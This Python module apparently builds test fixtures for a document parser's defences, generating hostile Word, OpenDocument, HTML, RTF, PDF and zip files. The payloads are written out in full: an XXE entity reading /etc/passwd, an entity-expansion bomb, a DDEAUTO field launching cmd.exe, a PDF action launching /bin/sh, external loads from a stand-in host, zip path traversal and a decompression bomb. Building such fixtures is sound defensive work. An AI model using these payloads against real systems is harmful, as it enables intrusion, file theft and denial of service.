"""Documents made to harm who reads them: each kind by its file's name."""

import io
import struct
import zipfile
from functools import cache

from support.documents import W, odt, paragraph, pdf, run, word, zipped

SECRET = "/etc/passwd"
ELSEWHERE = "http://192.0.2.7/seen"
_XXE = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{SECRET}">]>'
_BOMB = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(
        f'<!ENTITY {new} "{f"&{old};" * 10}">'
        for old, new in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]>"
)
_RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    f'relationships/attachedTemplate" Target="{ELSEWHERE}.dotm" TargetMode="External"/>'
    f'<Relationship Id="r2" Type="x/image" Target="file://{SECRET}" TargetMode="External"/>'
    "</Relationships>"
)
_FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
    f'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" INCLUDEPICTURE "{ELSEWHERE}"'
    '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


@cache
def hostile_documents() -> dict[str, bytes]:
    """Name and bytes of each."""
    return {**_words(), **_open_documents(), **_pages(), **_rich_texts(), **_pdfs(), **_packed()}


def _document(body: str, before: str = "", **parts: str | bytes) -> bytes:
    written = f"{before}<w:document {W}><w:body>{body}</w:body></w:document>"
    named = {name.replace("__", "/"): part for name, part in parts.items()}
    return zipped({"word/document.xml": written, **named})


def _words() -> dict[str, bytes]:
    good = paragraph("Pupils drew bars.")
    return {
        "template elsewhere.docx": zipped(
            {
                "word/document.xml": f"<w:document {W}><w:body>{good}</w:body></w:document>",
                "word/_rels/document.xml.rels": _RELATIONS,
                "word/_rels/settings.xml.rels": _RELATIONS,
            }
        ),
        "entity of a file.docx": _document("<w:p><w:r><w:t>&e;</w:t></w:r></w:p>", _XXE),
        "entities upon entities.docx": _document("<w:p><w:r><w:t>&i;</w:t></w:r></w:p>", _BOMB),
        "field that starts a program.docx": _document(good + _FIELD),
        "chunk elsewhere.docx": _document(f'{good}<w:altChunk r:id="r1" xmlns:r="x"/>'),
        "macros.docm": zipped(
            {
                "word/document.xml": f"<w:document {W}><w:body>{good}</w:body></w:document>",
                "word/vbaProject.bin": b"MZ" + b"\0" * 99,
            }
        ),
        "a hundred thousand tables deep.docx": _document(
            "<w:tbl><w:tr><w:tc>" * 20_000 + good + "</w:tc></w:tr></w:tbl>" * 20_000
        ),
        "no end.docx": _document("<w:p>" + run("x") * 3),
        "only its head.docx": word(good)[:120],
        "styles that are their own base.docx": word(
            paragraph("Base.", style="A"),
            styles='<w:style w:styleId="A"><w:basedOn w:val="A"/></w:style>',
        ),
    }


def _open_documents() -> dict[str, bytes]:
    image = f'<draw:image xmlns:draw="d" xlink:href="{ELSEWHERE}"/>'
    body = "<office:body><office:text><text:p>Pupils{}</text:p></office:text></office:body>"
    return {
        "image elsewhere.odt": odt(body.format(image)),
        "entity.odt": zipped(
            {
                "mimetype": "application/vnd.oasis.opendocument.text",
                "content.xml": _XXE + "<x>&e;</x>",
            }
        ),
        "spaces without end.odt": odt(body.format('<text:s text:c="2000000000"/>')),
    }


def _pages() -> dict[str, bytes]:
    said = (
        f"<html><base href='{ELSEWHERE}'><meta http-equiv=refresh content='0;url={ELSEWHERE}'>"
        f"<link rel=stylesheet href='{ELSEWHERE}'><script src='{ELSEWHERE}'>x()</script>"
        f"<body onload='x()'><img src='{ELSEWHERE}'><iframe src='file://{SECRET}'></iframe>"
        f"<object data='{ELSEWHERE}'></object><style>@import '{ELSEWHERE}';</style>Pupils drew."
    )
    return {
        "loads from elsewhere.html": said.encode(),
        "tags upon tags.html": b"<div><p><b>" * 60_000 + b"deep",
        "a tag without end.html": b"<p " + b"a='" * 90_000,
        "a comment without end.html": b"<p>seen<!--" * 30_000,
        "a text of nothing.txt": b"\0" * 5_000,
        "a line of megabytes.txt": b"x" * 3_000_000,
        "half a sign.txt": b"\xff\xfe\xd8\x00" * 500,
    }


def _rich_texts() -> dict[str, bytes]:
    return {
        "object.rtf": rb"{\rtf1 seen{\object\objautlink{\*\objdata 4d5a}}{\field{\*\fldinst "
        rb'INCLUDEPICTURE "http://192.0.2.7/x"}{\fldrslt y}}}',
        "groups upon groups.rtf": rb"{\rtf1 " + b"{" * 200_000 + b"x",
        "bytes that are not there.rtf": rb"{\rtf1 a{\pict\bin2000000000 x}}",
        "signs out of range.rtf": rb"{\rtf1 \u999999999999?\'zz\u-99999?ok}",
    }


def _pdfs() -> dict[str, bytes]:
    plain = pdf([(72, 760, "Pupils drew bars in the lesson.")])
    acts = (
        b"/OpenAction << /S /Launch /F (/bin/sh) >> /AA << /O << /S /URI /URI (http://192.0.2.7) >>"
        b" >> /Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.launchURL('x')) >>]"
        b" >> >> "
    )
    return {
        "acts when opened.pdf": plain.replace(b"/Type /Catalog ", b"/Type /Catalog " + acts),
        "pages that are their own.pdf": plain.replace(b"/Kids [5 0 R]", b"/Kids [2 0 R]"),
        "a page without bounds.pdf": plain.replace(b"[0 0 595 842]", b"[0 0 9e30 9e30]"),
        "millions of pages.pdf": plain.replace(b"/Count 1", b"/Count 2147483647"),
        "its table is its table.pdf": plain.replace(b"/Size", b"/Prev 9 /Size"),
        "only its head.pdf": plain[:200],
        "letters of another kind.pdf": plain.replace(b"/Helvetica", b"/../../etc/passwd"),
    }


def _packed() -> dict[str, bytes]:
    good = f"<w:document {W}><w:body>{paragraph('Good.')}</w:body></w:document>"
    outside = zipped({"../../word/document.xml": good, "/etc/x": "y"})
    twice, buffer = io.BytesIO(), io.BytesIO()
    with zipfile.ZipFile(twice, "w") as archive:
        archive.writestr("word/document.xml", good)
        archive.writestr("word/./document.xml", good)
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"<w:p>" + b"\0" * 60_000_000)
    locked = bytearray(zipped({"word/document.xml": good}))
    struct.pack_into("<H", locked, 6, 1)
    at = locked.index(b"PK\x01\x02")
    struct.pack_into("<H", locked, at + 8, 1)
    wrong = bytearray(zipped({"word/document.xml": good}))
    wrong[wrong.index(b"Good")] ^= 1
    return {
        "parts outside.docx": outside,
        "two bodies.docx": twice.getvalue(),
        "a body of sixty megabytes.docx": buffer.getvalue(),
        "locked parts.docx": bytes(locked),
        "a sum that is wrong.docx": bytes(wrong),
    }
